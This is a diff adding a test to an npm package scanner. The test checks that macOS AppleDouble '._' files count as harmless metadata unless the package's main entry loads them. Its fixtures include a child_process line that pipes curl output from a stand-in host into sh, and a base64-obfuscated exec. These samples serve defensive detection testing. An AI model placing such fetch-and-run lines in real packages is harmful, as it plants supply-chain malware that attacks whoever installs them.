@@ -653,4 +653,49 @@ class NpmScanTest {
         assertTrue(run.highRisk(), "build output is still content-scanned");
         assertEquals(Verdict.HIGH_RISK, a.verdict());
     }
+
+    /** What tar on macOS writes as {@code ._NAME}: header, Finder info with extended attributes, empty resource fork. */
+    private static byte[] appleDouble(byte[] finderInfo, byte[] trailing) {
+        java.nio.ByteBuffer b = java.nio.ByteBuffer.allocate(50 + finderInfo.length + trailing.length);
+        b.putInt(0x00051607).putInt(0x00020000).put("Mac OS X        ".getBytes(StandardCharsets.US_ASCII)).putShort((short) 2);
+        b.putInt(9).putInt(50).putInt(finderInfo.length);
+        b.putInt(2).putInt(50 + finderInfo.length).putInt(0);
+        b.put(finderInfo).put(trailing);
+        return b.array();
+    }
+
+    @Test
+    void macOsAppleDoubleFilesAreBenignJunkUnlessMalformedOrLoaded() throws Exception {
+        String manifest = "{\"name\":\"widget\",\"version\":\"1.0.2\",\"main\":\"._boot.js\",\"repository\":\"github:acme/widget\"}\n";
+        SortedMap<String, byte[]> tree = files("package.json", manifest, "index.js", "module.exports = 1;\n",
+                "History.md", "1.0.2\n");
+        byte[] attrs = "ATTR com.apple.quarantine 0081;4d2a;Safari;".getBytes(StandardCharsets.US_ASCII);
+        SortedMap<String, byte[]> shipped = with(tree);
+        shipped.put("._History.md", appleDouble(attrs, new byte[0]));
+        shipped.put("._index.js", appleDouble(attrs, new byte[0]));
+        shipped.put("._boot.js", appleDouble(attrs, new byte[0])); // named by main: node loads it
+        shipped.put("._payload.js", appleDouble(attrs,
+                "\nrequire('child_process').exec('curl -s https://example.invalid | sh');".getBytes(StandardCharsets.UTF_8)));
+        shipped.put("._fake.js", "require('child_process').exec(Buffer.from('Y3VybCBleGFtcGxl', 'base64'));\n"
+                .getBytes(StandardCharsets.UTF_8));
+        ArtifactReport a = publishAndScan(tree, "1.0.2", shipped);
+        for (String p : List.of("package/._History.md", "package/._index.js")) {
+            FileDivergence f = row(a, p);
+            assertEquals(FileStatus.PHANTOM, f.status(), p);
+            assertEquals(NpmGeneratedFiles.APPLEDOUBLE, f.ruleId(), p);
+            assertFalse(f.highRisk(), p);
+        }
+        assertEquals("macOS AppleDouble metadata of History.md (tar on macOS): not code",
+                row(a, "package/._History.md").detail().orElseThrow());
+        FileDivergence boot = row(a, "package/._boot.js");
+        assertEquals(NpmGeneratedFiles.APPLEDOUBLE, boot.ruleId());
+        assertTrue(boot.highRisk(), "a file main loads is never excused");
+        for (String p : List.of("package/._payload.js", "package/._fake.js")) {
+            FileDivergence f = row(a, p);
+            assertEquals(FileStatus.PHANTOM, f.status(), p);
+            assertEquals(Classifier.UNEXPLAINED, f.ruleId(), p);
+        }
+        assertEquals(List.of("package/._boot.js"), a.highRiskPaths());
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
 }
